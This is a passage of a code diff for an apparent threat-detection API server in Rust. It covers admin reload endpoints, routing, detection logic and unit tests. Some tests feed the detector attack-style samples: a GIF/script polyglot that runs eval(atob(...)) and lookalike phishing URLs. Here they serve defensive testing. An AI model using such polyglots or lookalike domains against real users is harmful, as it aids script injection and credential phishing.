+    HttpResponse::Ok().json(serde_json::json!({ "indicators": state.recurrence.escalated() }))
+}
+
+/// Unexpired emergency rules, newest first
+async fn list_emergency_rules(state: web::Data<AppState>) -> HttpResponse {
+    state.expire_temporary_rules();
+    HttpResponse::Ok().json(serde_json::json!({ "rules": &*state.emergency.list() }))
+}
+
+/// Reload `stat_alerts` rules from the configuration; firing rules that are
+/// kept stay firing
+async fn reload_stat_alerts(
+    http_req: HttpRequest,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let settings = match Settings::load() {
+        Ok(settings) => settings,
+        Err(e) => return Ok(HttpResponse::UnprocessableEntity().json(error_body(&e.to_string()))),
+    };
+    if let Err(e) = anomaly::validate(&settings.stat_alerts) {
+        return Ok(HttpResponse::UnprocessableEntity().json(error_body(&e)));
+    }
+    
+    let details = serde_json::json!({
+        "rules": settings.stat_alerts.iter().map(|r| r.name.clone()).collect::<Vec<_>>(),
+    });
+    *state.stat_alerts.write().unwrap() = Arc::new(settings.stat_alerts);
+    state.audit.record("stat_alerts.reload", &actor(&http_req), details.clone());
+    
+    Ok(HttpResponse::Ok().json(details))
+}
+
+/// Reload the Public Suffix List from the data directory
+async fn reload_public_suffix_list(
+    http_req: HttpRequest,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let data_dir = state.settings.data_dir.clone();
+    match web::block(move || domain::load_from_dir(&data_dir)).await? {
+        Ok(true) => {
+            state.rules_changed();
+            state.audit.record("psl.reload", &actor(&http_req), serde_json::json!({
+                "path": state.settings.data_dir.join(domain::PSL_FILE_NAME),
+            }));
+            Ok(HttpResponse::Ok().json(serde_json::json!({ "reloaded": true })))
+        }
+        Ok(false) => Ok(HttpResponse::NotFound().json(error_body("No public suffix list in data directory"))),
+        Err(e) => Ok(HttpResponse::UnprocessableEntity().json(error_body(&e.to_string()))),
+    }
+}
+
+/// Admin: reload the brand asset table from the data directory
+async fn reload_brand_assets(
+    http_req: HttpRequest,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let data_dir = state.settings.data_dir.clone();
+    match web::block(move || brand_assets::load_from_dir(&data_dir)).await? {
+        Ok(Some(brands)) => {
+            state.rules_changed();
+            state.audit.record("brand_assets.reload", &actor(&http_req), serde_json::json!({
+                "path": state.settings.data_dir.join(brand_assets::ASSETS_FILE_NAME),
+                "brands": brands,
+            }));
+            Ok(HttpResponse::Ok().json(serde_json::json!({ "reloaded": true, "brands": brands })))
+        }
+        Ok(None) => Ok(HttpResponse::NotFound().json(error_body("No brand asset table in data directory"))),
+        Err(e) => Ok(HttpResponse::UnprocessableEntity().json(error_body(&e.to_string()))),
+    }
+}
+
+/// Largest raw detection body accepted: the content size limit, if any
+fn raw_body_limit(settings: &Settings) -> usize {
+    match settings.max_content_bytes {
+        0 => usize::MAX,
+        limit => limit,
+    }
+}
+
+/// Every route, with raw detection bodies limited to `raw_body_limit` bytes
+fn routes(cfg: &mut web::ServiceConfig, raw_body_limit: usize) {
+    cfg.service(
+            web::scope("/api/detect")
+                .wrap(actix_web::middleware::from_fn(ratelimit::throttle))
+                .route("", web::post().to(detect_threat))
+                .route("/partial", web::post().to(detect_partial))
+                .route("/batch", web::post().to(detect_batch))
+                .route("/qr", web::post().to(detect_qr))
+                .route("/compare", web::post().to(detect_compare))
+                .service(
+                    web::resource("/raw")
+                        .app_data(web::PayloadConfig::new(raw_body_limit))
+                        .route(web::post().to(detect_raw)),
+                ),
+        )
+        .route("/api/health", web::get().to(health))
+        .configure(optional_routes)
+        .route("/api/ready", web::get().to(ready))
+        .route("/api/signing-key", web::get().to(signing_key))
+        .route("/api/capabilities", web::get().to(get_capabilities))
+        .route("/api/stats", web::get().to(get_statistics))
+        .route("/api/stats/stream", web::get().to(stream_statistics))
+        .route("/api/stats/top", web::get().to(top_threats))
+        .route("/api/testvectors", web::get().to(test_vectors))
+        .route("/api/testvectors/verify", web::post().to(verify_test_vectors))
+        .route("/api/alerts", web::get().to(list_alerts))
+        .route("/api/rules/emergency", web::post().to(push_emergency_rule))
+        .route("/api/rules/emergency", web::get().to(list_emergency_rules))
+        .route("/api/admin/indicators/escalated", web::get().to(list_escalated_indicators))
+        .route("/api/detections/by-fingerprint/{hash}", web::get().to(fingerprint_history))
+        .route("/api/detections/stream", web::get().to(stream_detections))
+        .route("/api/detections/{id}", web::get().to(get_detection))
+        .route("/api/triage", web::get().to(list_triage))
+        .route("/api/triage/{id}/resolve", web::post().to(resolve_triage))
+        .route("/api/watch", web::post().to(add_watches))
+        .route("/api/watch", web::get().to(list_watches))
+        .route("/api/watch", web::delete().to(remove_watches))
+        .route("/api/watch/poll", web::get().to(poll_watches))
+        .route("/metrics", web::get().to(prometheus_metrics))
+        .route("/api/metrics", web::get().to(prometheus_metrics))
+        .route("/api/admin/cache", web::get().to(list_cache))
+        .route("/api/admin/config", web::get().to(get_config))
+        .route("/api/admin/state/{hash}", web::get().to(get_engine_state))
+        .route("/api/admin/replication/promote", web::post().to(promote_replica))
+        .route("/api/admin/export", web::get().to(export_config))
+        .route("/api/admin/import", web::post().to(import_config))
+        .route("/api/admin/chaos", web::put().to(put_chaos))
+        .route("/api/admin/chaos", web::delete().to(delete_chaos))
+        .route("/api/admin/tenants/{tenant}/lists", web::get().to(get_tenant_lists))
+        .route("/api/admin/tenants/{tenant}/lists/{list}", web::put().to(put_tenant_list))
+        .route("/api/admin/thresholds/{threat_type}", web::get().to(get_thresholds))
+        .route("/api/admin/thresholds/{threat_type}", web::put().to(put_thresholds))
+        .route("/api/admin/thresholds/{threat_type}/reset", web::post().to(reset_thresholds))
+        .route("/api/admin/blocklist/reload", web::post().to(reload_url_blocklist))
+        .route("/api/admin/psl/reload", web::post().to(reload_public_suffix_list))
+        .route("/api/admin/pipelines/reload", web::post().to(reload_pipelines))
+        .route("/api/admin/stat-alerts/reload", web::post().to(reload_stat_alerts))
+        .route("/api/admin/honeytokens", web::post().to(create_honeytoken))
+        .route("/api/admin/honeytokens", web::get().to(list_honeytokens))
+        .route("/api/admin/honeytokens/{id}", web::delete().to(revoke_honeytoken))
+        .route("/api/admin/brand-assets/reload", web::post().to(reload_brand_assets));
+}
+
+/// Routes that only some builds include
+#[cfg_attr(not(feature = "dashboard"), allow(unused_variables))]
+fn optional_routes(cfg: &mut web::ServiceConfig) {
+    #[cfg(feature = "dashboard")]
+    cfg.route("/dashboard", web::get().to(dashboard::page))
+        .route("/dashboard/session", web::post().to(dashboard::session));
+    #[cfg(feature = "manual-clock")]
+    cfg.route("/api/admin/clock/advance", web::post().to(advance_clock));
+}
+
+/// Body of `POST /api/admin/clock/advance`
+#[cfg(feature = "manual-clock")]
+#[derive(Debug, Deserialize)]
+struct AdvanceClock {
+    secs: u64,
+}
+
+/// Admin: move the manual clock forward
+#[cfg(feature = "manual-clock")]
+async fn advance_clock(
+    http_req: HttpRequest,
+    body: web::Json<AdvanceClock>,
+    state: web::Data<AppState>,
+) -> HttpResponse {
+    let now = state.manual_clock.advance(Duration::from_secs(body.secs));
+    state.audit.record("clock.advance", &actor(&http_req), serde_json::json!({ "secs": body.secs, "now": now }));
+    HttpResponse::Ok().json(serde_json::json!({ "now": now }))
+}
+
+/// Who performed a request, for audit records: the peer address, or the
+/// client a `trusted_proxies` peer forwarded the request for
+fn actor(req: &HttpRequest) -> String {
+    let peer = req.peer_addr().map(|addr| addr.ip());
+    let trusted = req
+        .app_data::<web::Data<AppState>>()
+        .zip(peer)
+        .is_some_and(|(state, ip)| state.settings.trusted_proxies.contains(&ip));
+    match (trusted, peer) {
+        (true, _) => req.connection_info().realip_remote_addr().unwrap_or("unknown").to_string(),
+        (false, Some(ip)) => ip.to_string(),
+        (false, None) => "unknown".to_string(),
+    }
+}
+
+fn error_body(message: &str) -> serde_json::Value {
+    serde_json::json!({ "error": message })
+}
+
+/// 400 listing every problem found in a request body
+fn invalid_request(violations: &[Violation]) -> HttpResponse {
+    HttpResponse::BadRequest().json(invalid_request_body(violations))
+}
+
+fn invalid_request_body(violations: &[Violation]) -> serde_json::Value {
+    serde_json::json!({
+        "error": "Request body failed validation",
+        "violations": violations,
+    })
+}
+
+/// In strict mode, the 422 for a body with fields its shape does not have
+fn strict_fields(state: &AppState, body: &serde_json::Value, shape: Shape) -> Option<HttpResponse> {
+    if !state.settings.strict_request_fields {
+        return None;
+    }
+    let violations = validation::unexpected_fields(body, shape);
+    (!violations.is_empty()).then(|| unexpected_fields(&violations))
+}
+
+/// The 501 for a body asking for a disabled threat type
+fn disabled(state: &AppState, body: &serde_json::Value, shape: Shape) -> Option<HttpResponse> {
+    let violations = validation::disabled_types(body, shape, &state.settings);
+    (!violations.is_empty()).then(|| detection_disabled(&violations))
+}
+
+fn detection_disabled(violations: &[Violation]) -> HttpResponse {
+    HttpResponse::NotImplemented().json(serde_json::json!({
+        "error": "Detection is disabled for this threat type on this instance",
+        "code": "disabled",
+        "violations": violations,
+    }))
+}
+
+fn unexpected_fields(violations: &[Violation]) -> HttpResponse {
+    HttpResponse::UnprocessableEntity().json(serde_json::json!({
+        "error": "Request has unexpected fields",
+        "unexpected_fields": violations.iter().map(|v| v.pointer.as_str()).collect::<Vec<_>>(),
+        "violations": violations,
+    }))
+}
+
+/// Bodies that are not JSON at all get the same error shape as invalid ones
+fn json_error(err: actix_web::error::JsonPayloadError, _req: &HttpRequest) -> actix_web::Error {
+    let response = invalid_request(&[Violation { pointer: String::new(), message: err.to_string() }]);
+    actix_web::error::InternalError::from_response(err, response).into()
+}
+
+/// Verdict for a request, with confidence kept consistent with severity
+fn run_detection(req: &ThreatDetectionRequest, ctx: &DetectionContext) -> ThreatDetectionResponse {
+    let mut result = decide(req, ctx);
+    if ctx.settings.clamp_confidence_to_severity && result.is_threat {
+        // Overrides and forced verdicts can report a band their score is below
+        let floor = ctx.thresholds_for(&req.threat_type).floor(&result.severity);
+        if let Some(floor) = floor.filter(|floor| result.confidence < *floor) {
+            result.confidence = floor;
+        }
+    }
+    result
+}
+
+/// A policy override if one matches, otherwise the detectors' verdict on
+/// the (possibly truncated) content
+fn decide(req: &ThreatDetectionRequest, ctx: &DetectionContext) -> ThreatDetectionResponse {
+    if !ctx.settings.overrides.is_empty() {
+        if let Some(forced) = ctx.settings.overrides.get(&hash_string(&req.content)) {
+            return ThreatDetectionResponse::new(
+                ctx.detectors.get(&req.threat_type).map_or("unknown", |d| d.response_type()),
+                forced.is_threat,
+                forced.confidence.unwrap_or(if forced.is_threat { 1.0 } else { 0.0 }),
+                forced.severity.clone(),
+                vec!["Overridden by policy".to_string()],
+            );
+        }
+    }
+    
+    // Decoys are checked on the full content, before any truncation
+    if let Some(id) = ctx.honeytokens.triggered_by(&req.content) {
+        let mut result = ThreatDetectionResponse::new(
+            ctx.detectors.get(&req.threat_type).map_or("unknown", |d| d.response_type()),
+            true,
+            1.0,
+            "critical".to_string(),
+            vec![format!("Honeytoken triggered (token id {})", id)],
+        );
+        result.honeytoken_id = Some(id.into());
+        return result;
+    }
+    
+    // Bound detection cost on oversized content
+    let limit = ctx.settings.max_detect_bytes;
+    if limit > 0 && req.content.len() > limit {
+        let truncated = ThreatDetectionRequest {
+            threat_type: req.threat_type.clone(),
+            content: content::truncate(&req.content, limit).to_string(),
+            context: req.context.clone(),
+            explain: req.explain,
+            enrich: req.enrich,
+        };
+        let mut result = run_detectors(&truncated, ctx);
+        result.reasons.push(format!(
+            "Content truncated from {} to {} bytes before analysis",
+            req.content.len(),
+            truncated.content.len()
+        ));
+        return result;
+    }
+    
+    run_detectors(req, ctx)
+}
+
+/// Run the request's detector, widened to every type a polyglot matches
+fn run_detectors(req: &ThreatDetectionRequest, ctx: &DetectionContext) -> ThreatDetectionResponse {
+    let kinds = content::sniff(&req.content);
+    if !content::is_polyglot(&kinds) {
+        return detect_with_fallback(&req.threat_type, req, ctx);
+    }
+    
+    let mut types = vec![req.threat_type.as_str()];
+    for threat_type in kinds.iter().filter_map(|k| k.threat_type()) {
+        if !types.contains(&threat_type) {
+            types.push(threat_type);
+        }
+    }
+    
+    let parallel = ctx.settings.parallel_detect_min_bytes;
+    let results: Vec<ThreatDetectionResponse> = if parallel > 0 && req.content.len() >= parallel {
+        // Detectors are independent, so large content need not pay for them in sequence
+        std::thread::scope(|scope| {
+            let handles: Vec<_> = types
+                .iter()
+                .map(|threat_type| scope.spawn(move || detect_with_fallback(threat_type, req, ctx)))
+                .collect();
+            handles.into_iter().map(|h| h.join().expect("detector thread panicked")).collect()
+        })
+    } else {
+        types.iter().map(|threat_type| detect_with_fallback(threat_type, req, ctx)).collect()
+    };
+    let mut result = results.into_iter().max_by_key(verdict_rank).unwrap();
+    
+    let names: Vec<&str> = kinds.iter().map(|k| k.as_str()).collect();
+    result.polyglot = true;
+    result.reasons.push(format!("Content matches multiple types: {}", names.join(", ")));
+    result
+}
+
+/// Run a detector, then its configured fallback chain if it is inconclusive
+fn detect_with_fallback(
+    threat_type: &str,
+    req: &ThreatDetectionRequest,
+    ctx: &DetectionContext,
+) -> ThreatDetectionResponse {
+    let primary = detect_by_type(threat_type, req, ctx);
+    let chain = match ctx.settings.fallback_chains.get(threat_type) {
+        Some(chain) if !primary.is_threat && primary.confidence < ctx.settings.fallback_below => chain,
+        _ => return primary,
+    };
+    
+    let mut best = primary;
+    for fallback in chain.iter().filter(|t| *t != threat_type) {
+        let result = detect_by_type(fallback, req, ctx);
+        if verdict_rank(&result) > verdict_rank(&best) {
+            best = result;
+            best.reasons.push(format!("Flagged by fallback detector: {}", fallback));
+        }
+    }
+    best
+}
+
+fn detect_by_type(
+    threat_type: &str,
+    req: &ThreatDetectionRequest,
+    ctx: &DetectionContext,
+) -> ThreatDetectionResponse {
+    let mut result = match ctx.detectors.get(threat_type) {
+        Some(detector) => detector.detect(req, ctx),
+        None => {
+            warn!("Unknown threat type: {}", threat_type);
+            ThreatDetectionResponse::new(
+                "unknown",
+                false,
+                0.0,
+                "unknown".to_string(),
+                vec!["Unknown threat type".to_string()],
+            )
+        }
+    };
+    
+    // Route uncertain non-threats to review when the type has a review band
+    if let Some(thresholds) = ctx.thresholds.get(threat_type) {
+        if !result.is_threat && !result.timed_out {
+            result.verdict = thresholds.verdict(result.confidence);
+        }
+    }
+    result
+}
+
+
+/// Ordering key for picking the most severe of several verdicts
+fn verdict_rank(response: &ThreatDetectionResponse) -> (bool, u8, u32) {
+    let severity = match response.severity.as_str() {
+        "critical" => 4,
+        "high" => 3,
+        "medium" => 2,
+        "low" => 1,
+        _ => 0,
+    };
+    (response.is_threat, severity, (response.confidence * 1000.0) as u32)
+}
+
+fn hash_string(input: &str) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(input);
+    format!("{:x}", hasher.finalize())
+}
+
+/// Print a preflight report and exit with its status; a clean report only
+/// gets here for `--preflight`
+fn exit_after_preflight(report: &preflight::Report, preflight_only: bool) -> ! {
+    if preflight_only {
+        println!("{}", serde_json::to_string_pretty(report).unwrap_or_default());
+    }
+    for line in report.lines() {
+        error!("Preflight: {}", line);
+    }
+    if !report.is_clean() && !preflight_only {
+        error!("Refusing to start with {} preflight problem(s)", report.problems.len());
+    }
+    std::process::exit(report.exit_code().into())
+}
+
+#[actix_web::main]
+async fn main() -> std::io::Result<()> {
+    env_logger::init_from_env(env_logger::Env::new().default_filter_or("info"));
+    
+    // `--preflight` checks the configuration and exits; `--warn-only` starts
+    // without optional artifacts that fail to load instead of refusing
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let preflight_only = args.iter().any(|a| a == "--preflight");
+    let warn_only = args.iter().any(|a| a == "--warn-only");
+    
+    info!("Starting AMD Security Layer API v1.0.0");
+    
+    let settings = match Settings::load() {
+        Ok(settings) => settings,
+        Err(e) => exit_after_preflight(&preflight::unloadable(&e), preflight_only),
+    };
+    let report = preflight::check(&settings);
+    let can_start = report.is_clean() || warn_only && report.can_start_degraded();
+    if preflight_only || !can_start {
+        exit_after_preflight(&report, preflight_only);
+    }
+    for line in report.lines() {
+        warn!("Preflight (starting without it): {}", line);
+    }
+    
+    let workers = settings.worker_count(num_cpus::get());
+    let data_dir = &settings.data_dir;
+    if !report.failed(&data_dir.join(domain::PSL_FILE_NAME)) && domain::load_from_dir(data_dir)? {
+        info!("Public Suffix List loaded from {}", data_dir.display());
+    }
+    if report.failed(&data_dir.join(brand_assets::ASSETS_FILE_NAME)) {
+        // Preflight left the table empty
+    } else if let Some(brands) = brand_assets::load_from_dir(data_dir)? {
+        info!("Brand asset table loaded: {} brands", brands);
+    }
+    
+    #[cfg(feature = "manual-clock")]
+    let manual_clock = {
+        warn!("Running on a manual clock; time only moves through /api/admin/clock/advance");
+        Arc::new(clock::ManualClock::new())
+    };
+    #[cfg(feature = "manual-clock")]
+    let state = AppState::new(settings, report, manual_clock.clone(), manual_clock)?;
+    #[cfg(not(feature = "manual-clock"))]
+    let state = AppState::new(settings, report, Arc::new(clock::SystemClock))?;
+    let state = web::Data::new(state);
+    
+    if let Some(addr) = &state.settings.statsd_addr {
+        match StatsdExporter::connect(addr, &state.settings.statsd_prefix).await {
+            Ok(exporter) => {
+                info!("Exporting statistics to StatsD at {}", addr);
+                actix_rt::spawn(export_statsd(exporter, state.clone()));
+            }
+            Err(e) => warn!("StatsD export disabled: {}", e),
+        }
+    }
+    
+    actix_rt::spawn(watch_statistics(state.clone()));
+    if state.watches.enabled() {
+        actix_rt::spawn(reevaluate_watches(state.clone()));
+        actix_rt::spawn(persist_watches(state.clone()));
+    }
+    if state.pressure.enabled() {
+        actix_rt::spawn(watch_memory(state.clone()));
+    }
+    if state.settings.cache_sweep_interval_secs > 0 {
+        actix_rt::spawn(sweep_cache(state.clone()));
+    }
+    match state.replication.role() {
+        Some(Role::Primary) => {
+            let peer = state.settings.replication_peer.clone().unwrap_or_default();
+            info!("Replicating to standby {}", peer);
+            actix_rt::spawn(replicate_to_standby(state.clone(), peer));
+        }
+        Some(Role::Standby) => {
+            let listen = state.settings.replication_listen.clone().unwrap_or_default();
+            let listener = tokio::net::TcpListener::bind(&listen).await?;
+            info!("Standby accepting replication on {}", listen);
+            actix_rt::spawn(receive_replication(state.clone(), listener));
+        }
+        None => {}
+    }
+    
+    state.engine_state();
+    if state.warmup.enabled() {
+        actix_rt::spawn(warm_up(state.clone()));
+    }
+    info!("Cache initialized with {} entries, ttl {}s", state.settings.cache_capacity, state.settings.cache_ttl_secs);
+    info!("Starting {} workers (min_workers = {})", workers, state.settings.min_workers);
+    
+    // Raw bodies are content, so they share its limit; 0 leaves both unbounded
+    let raw_body_limit = raw_body_limit(&state.settings);
+    
+    // Start HTTP server, over TLS when a certificate is configured
+    let bind_addr = state.settings.bind_addr.clone();
+    let tls = match (&state.settings.tls_cert_file, &state.settings.tls_key_file) {
+        (Some(cert), Some(key)) => {
+            info!("Serving HTTPS, TLS {} and up", state.settings.tls_min_version);
+            Some(tls::load(cert, key, &state.settings.tls_min_version)?)
+        }
+        _ => None,
+    };
+    let audited = state.clone();
+    let server = HttpServer::new(move || {
+        App::new()
+            .app_data(state.clone())
+            .app_data(state.api_keys.clone())
+            .app_data(web::JsonConfig::default().error_handler(json_error))
+            .wrap_fn(|req, srv| {
+                // Injected faults are decided once per request; handlers read the rest
+                let faults = req
+                    .app_data::<web::Data<AppState>>()
+                    .zip(req.match_pattern())
+                    .map(|(state, route)| state.chaos.roll(&route, req.headers()))
+                    .unwrap_or_default();
+                let call = if faults.error {
+                    Err(req)
+                } else {
+                    req.extensions_mut().insert(faults);
+                    Ok(srv.call(req))
+                };
+                async move {
+                    if let Some(delay) = faults.delay {
+                        tokio::time::sleep(delay).await;
+                    }
+                    match call {
+                        Ok(response) => response.await,
+                        Err(req) => Ok(req.into_response(
+                            HttpResponse::InternalServerError().json(error_body("Injected fault")),
+                        )),
+                    }
+                }
+            })
+            .wrap(actix_web::middleware::from_fn(audit::backpressure))
+            // Outermost, so a request without a valid key reaches nothing else
+            .wrap(actix_web::middleware::from_fn(auth::require_key))
+            .configure(|cfg| routes(cfg, raw_body_limit))
+    });
+    let server = match tls {
+        Some(config) => server.bind_rustls_0_23(&bind_addr, config)?,
+        None => server.bind(&bind_addr)?,
+    };
+    let result = server.workers(workers).run().await;
+    audited.audit.flush();
+    audited.recorder.flush();
+    audited.watches.flush();
+    result
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use actix_web::body::MessageBody;
+    use actix_web::dev::{Service, ServiceResponse};
+    use actix_web::test::{call_service, init_service, read_body_json, TestRequest};
+
+    /// Default settings, with a data directory of their own
+    fn settings() -> Settings {
+        static DIRS: AtomicU64 = AtomicU64::new(0);
+        let dir = std::env::temp_dir().join(format!(
+            "amd-security-api-{}-{}",
+            std::process::id(),
+            DIRS.fetch_add(1, Ordering::Relaxed)
+        ));
+        Settings { data_dir: dir, ..Settings::default() }
+    }
+
+    /// State for `settings` on the system clock
+    fn state(settings: Settings) -> web::Data<AppState> {
+        #[cfg(feature = "manual-clock")]
+        let state = {
+            let clock = Arc::new(clock::ManualClock::new());
+            AppState::new(settings, preflight::Report::default(), clock.clone(), clock)
+        };
+        #[cfg(not(feature = "manual-clock"))]
+        let state = AppState::new(settings, preflight::Report::default(), Arc::new(clock::SystemClock));
+        web::Data::new(state.unwrap())
+    }
+
+    /// State for `settings` on `clock`, which moves only when advanced
+    fn manual_state(settings: Settings, clock: &Arc<clock::ManualClock>) -> web::Data<AppState> {
+        #[cfg(feature = "manual-clock")]
+        let state = AppState::new(settings, preflight::Report::default(), clock.clone(), clock.clone());
+        #[cfg(not(feature = "manual-clock"))]
+        let state = AppState::new(settings, preflight::Report::default(), clock.clone());
+        web::Data::new(state.unwrap())
+    }
+
+    /// The app `main` serves for `state`, without fault injection
+    async fn app(
+        state: &web::Data<AppState>,
+    ) -> impl Service<actix_http::Request, Response = ServiceResponse<impl MessageBody>, Error = actix_web::Error> {
+        init_service(
+            App::new()
+                .app_data(state.clone())
+                .app_data(state.api_keys.clone())
+                .app_data(web::JsonConfig::default().error_handler(json_error))
+                .wrap(actix_web::middleware::from_fn(audit::backpressure))
+                .wrap(actix_web::middleware::from_fn(auth::require_key))
+                .configure(|cfg| routes(cfg, raw_body_limit(&state.settings))),
+        )
+        .await
+    }
+
+    /// Wait up to five seconds for `done`
+    async fn until(mut done: impl FnMut() -> bool) {
+        for _ in 0..500 {
+            if done() {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        panic!("timed out waiting");
+    }
+
+    fn detect(threat_type: &str, content: &str) -> TestRequest {
+        TestRequest::post()
+            .uri("/api/detect")
+            .set_json(serde_json::json!({ "threat_type": threat_type, "content": content }))
+    }
+
+    /// A request as the handlers parse it
+    fn request(threat_type: &str, content: &str) -> ThreatDetectionRequest {
+        ThreatDetectionRequest {
+            threat_type: threat_type.to_string(),
+            content: content.to_string(),
+            context: None,
+            explain: false,
+            enrich: enrichment::Mode::None,
+        }
+    }
+
+    /// A detection asking for the per-stage trace
+    fn explain(threat_type: &str, content: &str, context: Option<&str>) -> TestRequest {
+        TestRequest::post().uri("/api/detect").set_json(serde_json::json!({
+            "threat_type": threat_type,
+            "content": content,
+            "context": context,
+            "explain": true,
+        }))
+    }
+
+    /// Outcome the explain trace records for `stage`
+    fn outcome<'a>(body: &'a serde_json::Value, stage: &str) -> &'a str {
+        let trace = body["trace"].as_array().unwrap();
+        trace.iter().find(|t| t["stage"] == stage).and_then(|t| t["outcome"].as_str()).unwrap_or("absent")
+    }
+
+    /// Reasons of a verdict
+    fn reasons(body: &serde_json::Value) -> Vec<&str> {
+        body["reasons"].as_array().unwrap().iter().filter_map(|r| r.as_str()).collect()
+    }
+
+    #[actix_web::test]
+    async fn gif_script_polyglot_engages_the_malware_detector() {
+        let app = app(&state(settings())).await;
+        let polyglot = "GIF89a/*\u{1}\u{0}*/=1;<script>eval(atob('YWxlcnQoMSk='))</script>";
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("url", polyglot).to_request()).await).await;
+        assert_eq!(body["polyglot"], true);
+        assert_eq!(body["threat_type"], "malware");
+        assert_eq!(body["is_threat"], true);
+        assert!(body["reasons"].as_array().unwrap().contains(&serde_json::json!("Suspicious function detected")));
+        assert!(body["reasons"].as_array().unwrap().contains(&serde_json::json!("Content matches multiple types: image, script")));
+        let plain: serde_json::Value = read_body_json(call_service(&app, detect("url", "GIF89a plain image bytes").to_request()).await).await;
+        assert_eq!(plain["polyglot"], false);
+    }
+
+    #[test]
+    fn percentiles_are_nearest_rank() {
+        let latencies: Vec<u64> = (1..=100).rev().collect();
+        let p = percentiles(&latencies);
+        assert_eq!((p.p50, p.p95, p.p99), (50, 95, 99));
+
+        let p = percentiles(&(1..=10).collect::<Vec<u64>>());
+        assert_eq!((p.p50, p.p95, p.p99), (5, 10, 10));
+
+        let p = percentiles(&[7]);
+        assert_eq!((p.p50, p.p95, p.p99), (7, 7, 7));
+
+        let p = percentiles(&[]);
+        assert_eq!((p.p50, p.p95, p.p99), (0, 0, 0));
+    }
+
+    #[actix_web::test]
+    async fn threshold_changes_apply_at_once_and_reset_restores_them() {
+        let app = app(&state(settings())).await;
+        let url = "http://paypa1-verify.example.tk/login?confirm=1";
+        let verdict = || async { read_body_json::<serde_json::Value, _>(call_service(&app, detect("url", url).to_request()).await).await };
+
+        let before = verdict().await;
+        assert_ne!(before["severity"], "critical");
+        let put = |critical: f32| {
+            let body = serde_json::json!({ "threat": 0.1, "critical": critical, "high": 0.12, "medium": 0.11 });
+            TestRequest::put().uri("/api/admin/thresholds/url").set_json(body).to_request()
+        };
+        assert_eq!(call_service(&app, put(0.05)).await.status(), 400);
+        assert_eq!(call_service(&app, put(0.15)).await.status(), 200);
+        let lowered = verdict().await;
+        assert_eq!(lowered["cached"], false);
+        assert_eq!(lowered["severity"], "critical");
+        assert_eq!(lowered["is_threat"], true);
+
+        let reset = call_service(&app, TestRequest::post().uri("/api/admin/thresholds/url/reset").to_request()).await;
+        let reset: serde_json::Value = read_body_json(reset).await;
+        assert_eq!(reset["current"], reset["default"]);
+        let restored = verdict().await;
+        assert_eq!(restored["cached"], false);
+        assert_eq!((&restored["severity"], &restored["is_threat"]), (&before["severity"], &before["is_threat"]));
+    }
+
+    #[actix_web::test]
+    async fn same_url_scores_by_tenant_lists() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let blocklist = settings.data_dir.join("blocking-blocklist.txt");
+        std::fs::write(&blocklist, "example.org\n").unwrap();
+        let blocking = config::TenantSettings { blocklist_file: Some(blocklist), ..Default::default() };
+        settings.tenants.insert("blocking".to_string(), blocking);
+        settings.tenants.insert("open".to_string(), config::TenantSettings::default());
+        let app = app(&state(settings)).await;
+        let url = "https://example.org/about";
+        let verdict = |tenant: &str| detect("url", url).insert_header(("X-Tenant-Id", tenant.to_string()));
+
+        let blocked: serde_json::Value = read_body_json(call_service(&app, verdict("blocking").to_request()).await).await;
+        let open: serde_json::Value = read_body_json(call_service(&app, verdict("open").to_request()).await).await;
+        assert_eq!(blocked["is_threat"], true);
+        assert_eq!(open["is_threat"], false);
+        assert!(blocked["confidence"].as_f64() > open["confidence"].as_f64());
+
+        // A list update changes the verdict without a stale cache hit
+        let put = TestRequest::put().uri("/api/admin/tenants/open/lists/blocklist").set_json(["example.org"]);
+        assert_eq!(call_service(&app, put.to_request()).await.status(), 200);
+        let open: serde_json::Value = read_body_json(call_service(&app, verdict("open").to_request()).await).await;
+        assert_eq!(open["is_threat"], true);
+        assert_eq!(open["cached"], false);
+    }
+
+    #[actix_web::test]
+    async fn tenant_brands_and_keywords_flag_only_that_tenants_requests() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let brands = settings.data_dir.join("acme-brands.txt");
+        std::fs::write(&brands, "acmecorp\n").unwrap();
+        let keywords = settings.data_dir.join("acme-keywords.txt");
+        std::fs::write(&keywords, "payroll update\n").unwrap();
+        let acme = config::TenantSettings { brands_file: Some(brands), context_keywords_file: Some(keywords), ..Default::default() };
+        settings.tenants.insert("acme".to_string(), acme);
+        settings.tenants.insert("other".to_string(), config::TenantSettings::default());
+        let app = app(&state(settings)).await;
+        let verdict = |tenant: Option<&str>| {
+            let body = serde_json::json!({
+                "threat_type": "url",
+                "content": "https://acmecorp-signin.example.net/",
+                "context": "Please review your payroll update today",
+            });
+            let req = TestRequest::post().uri("/api/detect").set_json(body);
+            match tenant {
+                Some(tenant) => req.insert_header(("X-Tenant-Id", tenant.to_string())),
+                None => req,
+            }
+        };
+        let reasons = |body: &serde_json::Value| body["reasons"].as_array().unwrap().clone();
+
+        let acme: serde_json::Value = read_body_json(call_service(&app, verdict(Some("acme")).to_request()).await).await;
+        assert!(reasons(&acme).contains(&serde_json::json!("Suspicious domain pattern")));
+        assert!(reasons(&acme).contains(&serde_json::json!("Context contains phishing keywords")));
+        for tenant in [Some("other"), None] {
+            let body: serde_json::Value = read_body_json(call_service(&app, verdict(tenant).to_request()).await).await;
+            assert_eq!(body["cached"], false, "{:?}", tenant);
+            assert!(!reasons(&body).contains(&serde_json::json!("Suspicious domain pattern")), "{:?}", tenant);
+            assert!(!reasons(&body).contains(&serde_json::json!("Context contains phishing keywords")), "{:?}", tenant);
+            assert!(body["confidence"].as_f64() < acme["confidence"].as_f64());
+        }
+    }
+
+    #[actix_web::test]
+    async fn safe_verdicts_report_the_non_threat_severity_of_their_type() {
+        // Scores 0.3, inside the malware detector's medium band
+        let code = "var result = eval(input);";
+        let body: serde_json::Value = read_body_json(call_service(&app(&state(settings())).await, detect("code", code).to_request()).await).await;
+        assert_eq!((&body["is_threat"], &body["severity"]), (&serde_json::json!(false), &serde_json::json!("low")));
+
+        let mut settings = settings();
+        settings.non_threat_severity.insert("code".to_string(), "none".to_string());
